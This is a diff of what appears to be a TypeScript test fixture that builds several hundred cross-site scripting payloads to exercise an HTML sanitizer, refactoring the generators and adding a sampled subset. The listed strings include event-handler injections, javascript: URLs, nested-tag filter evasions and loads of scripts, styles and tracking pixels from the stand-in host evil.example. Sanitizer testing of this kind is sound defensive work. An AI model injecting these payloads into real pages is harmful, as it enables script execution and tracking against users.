@@ -3,9 +3,20 @@
  * as Markdown, as addresses, and as fragments that break out of an attribute, a tag, a script or a style. More than three
  * hundred.
  */
-export const hostileTexts = (): string[] => [
-  ...new Set([...elements(), ...addresses(), ...markdown(), ...breakouts(), ...disguises()]),
+export const hostileTexts = (): string[] => [...new Set([...crossed(), ...single()].flat())];
+
+/**
+ * One of each form, about fifty: of two lists that are crossed each member of the shorter one, with as many of the longer one,
+ * and every third of the texts that are different anyway.
+ */
+export const hostileForms = (): string[] => [
+  ...new Set([...crossed().flatMap((texts) => every(9, texts)), ...single().flatMap((texts) => every(3, texts))]),
 ];
+
+const every = (step: number, texts: readonly string[]): string[] => texts.filter((_, nth) => nth % step === 0);
+/** Two lists each, the shorter one within the longer one. Nine is prime to the lengths of the shorter ones. */
+const crossed = (): string[][] => [elementsByEvent(), addresses(), breakouts()];
+const single = (): string[][] => [elements(), markdown(), disguises()];
 
 const RUN = 'window.pwned=1';
 
@@ -21,8 +32,8 @@ const EVENTS = [
   'onpointerenter',
 ];
 
-function elements(): string[] {
-  const withEvents = EVENTS.flatMap((event) => [
+const elementsByEvent = (): string[] =>
+  EVENTS.flatMap((event) => [
     `<img src=x ${event}="${RUN}">`,
     `<svg ${event}='${RUN}'><rect width=9 height=9 /></svg>`,
     `<details open ${event}=${RUN}><summary>x</summary></details>`,
@@ -32,50 +43,49 @@ function elements(): string[] {
     `<div tabindex=0 style="animation-name:x" ${event}="${RUN}">x</div>`,
     `<math><mtext><img src=x ${event}="${RUN}"></mtext></math>`,
   ]);
-  return [
-    ...withEvents,
-    `<script>${RUN}</script>`,
-    `<SCRIPT>${RUN}</SCRIPT>`,
-    `<script src="https://evil.example/x.js"></script>`,
-    `<script type=module>${RUN}</script>`,
-    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
-    `<svg><script>${RUN}</script></svg>`,
-    `<svg><script href="https://evil.example/x.js" /></svg>`,
-    `<svg><animate attributeName=href values="javascript:${RUN}" /><a><text y=20>x</text></a></svg>`,
-    `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x" /></svg>`,
-    `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
-    `<iframe src="javascript:${RUN}"></iframe>`,
-    `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
-    `<iframe src="https://evil.example/"></iframe>`,
-    `<object data="javascript:${RUN}"></object>`,
-    `<object data="https://evil.example/x.swf"></object>`,
-    `<embed src="javascript:${RUN}">`,
-    `<form action="javascript:${RUN}"><button>go</button></form>`,
-    `<form><button formaction="javascript:${RUN}">go</button></form>`,
-    `<isindex action="javascript:${RUN}" type=submit>`,
-    `<base href="https://evil.example/">`,
-    `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
-    `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
-    `<link rel=stylesheet href="https://evil.example/x.css">`,
-    `<link rel=preload as=script href="https://evil.example/x.js">`,
-    `<style>@import "https://evil.example/x.css"</style>`,
-    `<style>body{background:url(https://evil.example/x.png)}</style>`,
-    `<img src="https://evil.example/pixel.png">`,
-    `<img srcset="https://evil.example/pixel.png 1x">`,
-    `<picture><source srcset="https://evil.example/p.png"><img></picture>`,
-    `<audio src="https://evil.example/x.mp3" autoplay></audio>`,
-    `<template><script>${RUN}</script></template>`,
-    `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
-    `<table background="https://evil.example/x.png"><tr><td>x</table>`,
-    `<marquee onstart=${RUN}>x</marquee>`,
-    `<select autofocus onfocus=${RUN}></select>`,
-    `<textarea autofocus onfocus=${RUN}></textarea>`,
-    `<keygen autofocus onfocus=${RUN}>`,
-    `<x contenteditable onblur=${RUN}>x</x>`,
-    `<math href="javascript:${RUN}">x</math>`,
-    `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
-  ];
-}
+
+const elements = (): string[] => [
+  `<script>${RUN}</script>`,
+  `<SCRIPT>${RUN}</SCRIPT>`,
+  `<script src="https://evil.example/x.js"></script>`,
+  `<script type=module>${RUN}</script>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><script href="https://evil.example/x.js" /></svg>`,
+  `<svg><animate attributeName=href values="javascript:${RUN}" /><a><text y=20>x</text></a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x" /></svg>`,
+  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
+  `<iframe src="javascript:${RUN}"></iframe>`,
+  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
+  `<iframe src="https://evil.example/"></iframe>`,
+  `<object data="javascript:${RUN}"></object>`,
+  `<object data="https://evil.example/x.swf"></object>`,
+  `<embed src="javascript:${RUN}">`,
+  `<form action="javascript:${RUN}"><button>go</button></form>`,
+  `<form><button formaction="javascript:${RUN}">go</button></form>`,
+  `<isindex action="javascript:${RUN}" type=submit>`,
+  `<base href="https://evil.example/">`,
+  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
+  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
+  `<link rel=stylesheet href="https://evil.example/x.css">`,
+  `<link rel=preload as=script href="https://evil.example/x.js">`,
+  `<style>@import "https://evil.example/x.css"</style>`,
+  `<style>body{background:url(https://evil.example/x.png)}</style>`,
+  `<img src="https://evil.example/pixel.png">`,
+  `<img srcset="https://evil.example/pixel.png 1x">`,
+  `<picture><source srcset="https://evil.example/p.png"><img></picture>`,
+  `<audio src="https://evil.example/x.mp3" autoplay></audio>`,
+  `<template><script>${RUN}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
+  `<table background="https://evil.example/x.png"><tr><td>x</table>`,
+  `<marquee onstart=${RUN}>x</marquee>`,
+  `<select autofocus onfocus=${RUN}></select>`,
+  `<textarea autofocus onfocus=${RUN}></textarea>`,
+  `<keygen autofocus onfocus=${RUN}>`,
+  `<x contenteditable onblur=${RUN}>x</x>`,
+  `<math href="javascript:${RUN}">x</math>`,
+  `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
+];
 
 function schemes(): string[] {
   const tab = String.fromCharCode(9);
